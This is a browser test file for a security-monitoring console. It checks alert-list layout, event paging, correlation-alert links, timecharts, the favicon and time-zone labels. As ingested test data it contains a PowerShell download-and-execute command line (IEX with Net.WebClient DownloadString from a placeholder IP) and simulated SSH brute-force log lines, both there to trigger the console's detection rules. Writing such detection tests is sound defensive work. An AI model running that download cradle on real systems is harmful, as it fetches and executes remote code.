// Browser tests of the console's layout, lists and charts (issue 11):
// long values from the logs keep every column of the alert list on a
// 1280 px screen and no page scrolls sideways at 800 px; search pages
// through 1,000 events to the last; a correlation alert links to a search
// of its contributing events; timechart draws a chart; /favicon.ico
// answers; times are shown in the chosen zone, labelled.
//
//   cd e2e && node --test layout.test.mjs
import { before, after } from "node:test";
import assert from "node:assert/strict";
import { browserTests, startVigil, launchBrowser, newPage, closePage, login, shot, waitFor, rfc3164 } from "./harness.mjs";

const { playwright, skip, t } = await browserTests();

const password = "e2e layout password 1";
const attacker = "203.0.113.66";
const failures = 20; // two firings of the brute-force correlation (10 each)
const hash = "9f".repeat(64); // 128 hex digits (SHA-512)
const commandLine = "powershell.exe -NoProfile -ExecutionPolicy Bypass -Command IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.50/" +
  "a".repeat(200) + "')";
const pagingEvents = 1000;

let vigil, browser;

before(async () => {
  if (skip) return;
  vigil = await startVigil();
  await vigil.api("POST", "/api/v1/users", { username: "admin", password, role: "admin" });
  // A process-creation event whose values do not fit anywhere: it raises
  // "PowerShell downloads and runs code" with a 135-character file.hash
  // entity.
  const now = Date.now();
  const sysmon = {
    "@timestamp": new Date(now).toISOString(), EventID: 1, Channel: "Microsoft-Windows-Sysmon/Operational", Computer: "ws-layout-01",
    Image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", CommandLine: commandLine, User: "CORP\\layout",
    Hashes: "SHA512=" + hash,
  };
  assert.ok(commandLine.length >= 300, `command line of ${commandLine.length} characters`);
  // 1,000 events 50 ms apart, numbered oldest first.
  const evs = [JSON.stringify(sysmon)];
  for (let i = 0; i < pagingEvents; i++) {
    evs.push(JSON.stringify({ "@timestamp": new Date(now - 60000 + 50 * i).toISOString(), "host.name": "pager01",
      message: `paging-marker event ${String(i).padStart(4, "0")}`, seq: i }));
  }
  await vigil.api("POST", "/api/v1/ingest", evs.join("\n"));
  // An SSH brute force over syslog TCP.
  const ts = rfc3164(new Date());
  const lines = [];
  for (let i = 0; i < failures; i++) {
    lines.push(`<38>${ts} web01 sshd[${5000 + i}]: Failed password for root from ${attacker} port ${42000 + i} ssh2`);
  }
  await vigil.syslog(lines);
  await waitFor("the alerts", async () => {
    const as = (await vigil.api("GET", "/api/v1/alerts?status=&limit=50")).alerts;
    return as.some((a) => a.rule_title === "PowerShell downloads and runs code") &&
      as.some((a) => a.rule_title === "SSH brute force from one source" && a.count === failures / 10);
  });
  browser = await launchBrowser(playwright, vigil.tmp, { timezoneId: "Europe/Berlin", permissions: ["clipboard-read", "clipboard-write"] });
});

after(async () => {
  if (browser) await browser.close();
  if (vigil) await vigil.stop();
});

async function alertNamed(title) {
  const as = (await vigil.api("GET", "/api/v1/alerts?status=&limit=50")).alerts;
  const a = as.find((x) => x.rule_title === title);
  assert.ok(a, `no alert "${title}"`);
  return a;
}

// noSideScroll asserts that the page body does not scroll sideways.
async function noSideScroll(page, what) {
  const { scroll, client } = await page.evaluate(() => ({ scroll: document.documentElement.scrollWidth, client: document.documentElement.clientWidth }));
  assert.ok(scroll <= client, `${what}: the page is ${scroll} px wide in a ${client} px window`);
}

t("a long entity value keeps every alert column visible at 1280 px, and no page scrolls sideways at 800 px", async () => {
  const page = await newPage(browser);
  await page.setViewportSize({ width: 1280, height: 800 });
  await login(browser, page, vigil.base, "admin", password);
  await page.goto(vigil.base + "/alerts?status=any");
  const headers = page.locator("table.alerts thead th");
  const n = await headers.count();
  assert.ok(n >= 9, `${n} header cells`);
  for (let i = 0; i < n; i++) {
    const box = await headers.nth(i).boundingBox();
    const name = (await headers.nth(i).innerText()).trim() || "(select)";
    assert.ok(box && box.x >= 0 && box.x + box.width <= 1280, `column ${name} at ${JSON.stringify(box)}, past 1280 px`);
  }
  for (const name of ["Count", "Last seen", "Status", "Incident"]) {
    await assert.doesNotReject(page.locator("table.alerts thead th", { hasText: name }).waitFor({ state: "visible" }), name);
  }
  await noSideScroll(page, "/alerts at 1280");
  // The whole value is on hover and is what the copy button copies.
  const full = "SHA512=" + hash;
  const cut = page.locator(`.val .cut[title="${full}"]`).first();
  await cut.waitFor();
  const cutBox = await cut.boundingBox();
  assert.ok(cutBox.width < 400, `the hash takes ${cutBox.width} px`);
  await page.locator(".val", { has: page.locator(`.cut[title="${full}"]`) }).first().getByRole("button", { name: "Copy value" }).click();
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), full);
  await shot(page, "layout-alerts-1280");

  // The alert's page and an incident holding it fit too.
  const ps = await alertNamed("PowerShell downloads and runs code");
  const inc = await vigil.api("POST", "/api/v1/incidents", { title: "Layout: PowerShell " + "x".repeat(150), alerts: [ps.id] });
  await page.goto(`${vigil.base}/alerts/${ps.id}`);
  await page.getByRole("heading", { name: /PowerShell downloads and runs code/ }).waitFor();
  await noSideScroll(page, "the alert page at 1280");
  await shot(page, "layout-alert-1280");
  await page.goto(`${vigil.base}/incidents/${inc.id}`);
  await noSideScroll(page, "the incident page at 1280");
  await shot(page, "layout-incident-1280");

  await page.setViewportSize({ width: 800, height: 600 });
  for (const [p, name] of [["/", "overview"], ["/search?q=paging-marker&range=24h", "search"], ["/alerts?status=any", "alerts"],
    [`/alerts/${ps.id}`, "alert"], ["/incidents?status=any", "incidents"], [`/incidents/${inc.id}`, "incident"],
    ["/rules", "rules"], ["/attack", "attack"], ["/sources", "sources"], ["/settings", "settings"]]) {
    await page.goto(vigil.base + p);
    await noSideScroll(page, `${p} at 800`);
    // The header wraps: every link of the main menu is inside the window.
    const links = page.locator("header.top nav a");
    for (let i = 0; i < await links.count(); i++) {
      const box = await links.nth(i).boundingBox();
      assert.ok(box && box.x >= 0 && box.x + box.width <= 800, `${p}: menu link ${i} at ${JSON.stringify(box)}`);
    }
    const signOut = await page.locator("header.top").getByRole("button", { name: "Sign out" }).boundingBox();
    assert.ok(signOut && signOut.x + signOut.width <= 800, `${p}: Sign out at ${JSON.stringify(signOut)}`);
    if (["alerts", "alert", "incident", "search"].includes(name)) await shot(page, `layout-${name}-800`);
  }
  await closePage(page);
});

t("search pages through 1,000 events to the last, with the total", async () => {
  const page = await newPage(browser);
  await page.setViewportSize({ width: 1280, height: 800 });
  await login(browser, page, vigil.base, "admin", password);
  await page.goto(vigil.base + "/search?q=" + encodeURIComponent("paging-marker") + "&range=24h");
  const summary = page.locator("nav.pager .summary").first();
  assert.equal(await summary.innerText(), "1–100 of 1,000 events");
  await page.locator("#rows summary", { hasText: "paging-marker event 0999" }).waitFor();
  await Promise.all([page.waitForURL(/offset=900/), page.getByRole("link", { name: "Last »" }).first().click()]);
  assert.equal(await summary.innerText(), "901–1,000 of 1,000 events");
  // Newest first: the last page ends with the oldest, event 0000.
  await page.locator("#rows summary", { hasText: "paging-marker event 0000" }).waitFor();
  assert.equal(await page.locator("#rows tr").count(), 100);
  assert.equal(await page.getByRole("link", { name: "Next ›" }).count(), 0, "a Next link on the last page");
  await Promise.all([page.waitForURL(/offset=800/), page.getByRole("link", { name: "‹ Previous" }).first().click()]);
  assert.equal(await summary.innerText(), "801–900 of 1,000 events");
  await page.locator("#rows summary", { hasText: "paging-marker event 0100" }).waitFor();
  await shot(page, "layout-search-paging");
  await closePage(page);
});

t("a correlation alert links to a search of all its contributing events", async () => {
  const page = await newPage(browser);
  await page.setViewportSize({ width: 1280, height: 800 });
  await login(browser, page, vigil.base, "admin", password);
  const bf = await alertNamed("SSH brute force from one source");
  assert.equal(bf.count, failures / 10, "the correlation fires once per 10 failures");
  await page.goto(`${vigil.base}/alerts/${bf.id}`);
  await page.getByText(`It fired ${bf.count} times`).waitFor();
  await shot(page, "layout-correlation-alert");
  await Promise.all([page.waitForURL(/\/search\?/), page.getByRole("link", { name: "Search the contributing events" }).click()]);
  // Every failure the correlation counted (its count × its threshold of
  // 10), and nothing else.
  const want = bf.count * 10;
  assert.equal(want, failures);
  await page.getByRole("heading", { name: new RegExp(`^${want} events`) }).waitFor();
  assert.equal(await page.locator("nav.pager .summary").first().innerText(), `1–${want} of ${want} events`);
  const rows = page.locator("#rows tr");
  assert.equal(await rows.count(), want);
  for (let i = 0; i < want; i++) {
    const text = await rows.nth(i).locator("summary").innerText();
    assert.match(text, new RegExp(`Failed password for root from ${attacker.replaceAll(".", "\\.")}`), `row ${i}`);
  }
  await shot(page, "layout-correlation-events");
  await closePage(page);
});

t("timechart draws a chart above its table", async () => {
  const page = await newPage(browser);
  await page.setViewportSize({ width: 1280, height: 800 });
  await login(browser, page, vigil.base, "admin", password);
  await page.goto(vigil.base + "/search?q=" + encodeURIComponent("paging-marker | timechart span=5s count()") + "&range=24h");
  const svg = page.locator("figure.timechart svg.chart");
  await svg.waitFor();
  assert.equal(await svg.locator("path").count(), 1, "one line for count()");
  assert.ok(await svg.locator("circle").count() >= 10, "a point per 5 s bucket of the 50 s of events");
  // The axis is in the browser's zone (Berlin), and says so.
  assert.match(await svg.locator("text.tz").textContent(), /^CES?T$/);
  const rows = await page.locator("table.list tbody tr").count();
  assert.ok(rows >= 1, "no table below the chart");
  const chartBox = await svg.boundingBox();
  const tableBox = await page.locator("table.list").boundingBox();
  assert.ok(chartBox.y < tableBox.y, "the chart is not above the table");
  await shot(page, "layout-timechart");
  await closePage(page);
});

t("/favicon.ico answers and pages link their icon", async () => {
  const res = await fetch(vigil.base + "/favicon.ico");
  assert.equal(res.status, 200);
  assert.equal(res.headers.get("content-type"), "image/x-icon");
  const body = Buffer.from(await res.arrayBuffer());
  assert.deepEqual([...body.subarray(0, 4)], [0, 0, 1, 0], "not an ICO file");
  const page = await newPage(browser);
  await login(browser, page, vigil.base, "admin", password);
  assert.equal(await page.locator('link[rel="icon"][href="/favicon.ico"]').count(), 1);
  const svg = await fetch(vigil.base + "/static/favicon.svg");
  assert.equal(svg.status, 200);
  await closePage(page);
});

t("times are shown in the chosen zone, each labelled", async () => {
  // Without script, the page says UTC.
  const bf = await alertNamed("SSH brute force from one source");
  const html = await (await fetch(`${vigil.base}/login`)).text();
  assert.ok(html.includes("<html"));
  const page = await newPage(browser);
  await page.setViewportSize({ width: 1280, height: 800 });
  await login(browser, page, vigil.base, "admin", password);
  const raw = await page.request.get(`${vigil.base}/alerts/${bf.id}`);
  assert.match(await raw.text(), /<time datetime="[^"]+">\d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC<\/time>/);

  await page.goto(`${vigil.base}/alerts/${bf.id}`);
  const times = page.locator("main time:not(.ago)");
  assert.ok(await times.count() >= 2);
  const label = async () => (await times.first().innerText()).trim();
  // The browser's zone by default (the test's browser is in Berlin; in
  // December that is CET).
  assert.match(await label(), /^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d (CET|CEST)$/);
  const select = page.getByLabel("Show times in");
  await select.selectOption("UTC");
  assert.match(await label(), / UTC$/);
  await select.selectOption("America/New_York");
  assert.match(await label(), / E[SD]T$/);
  // The choice is kept (localStorage) for the next page.
  await page.goto(`${vigil.base}/alerts?status=any`);
  const ago = page.locator("table.alerts time.ago").first();
  assert.match(await ago.getAttribute("title"), / E[SD]T$/);
  await page.getByLabel("Show times in").selectOption("");
  assert.match(await ago.getAttribute("title"), / CES?T$/);
  await closePage(page);
});
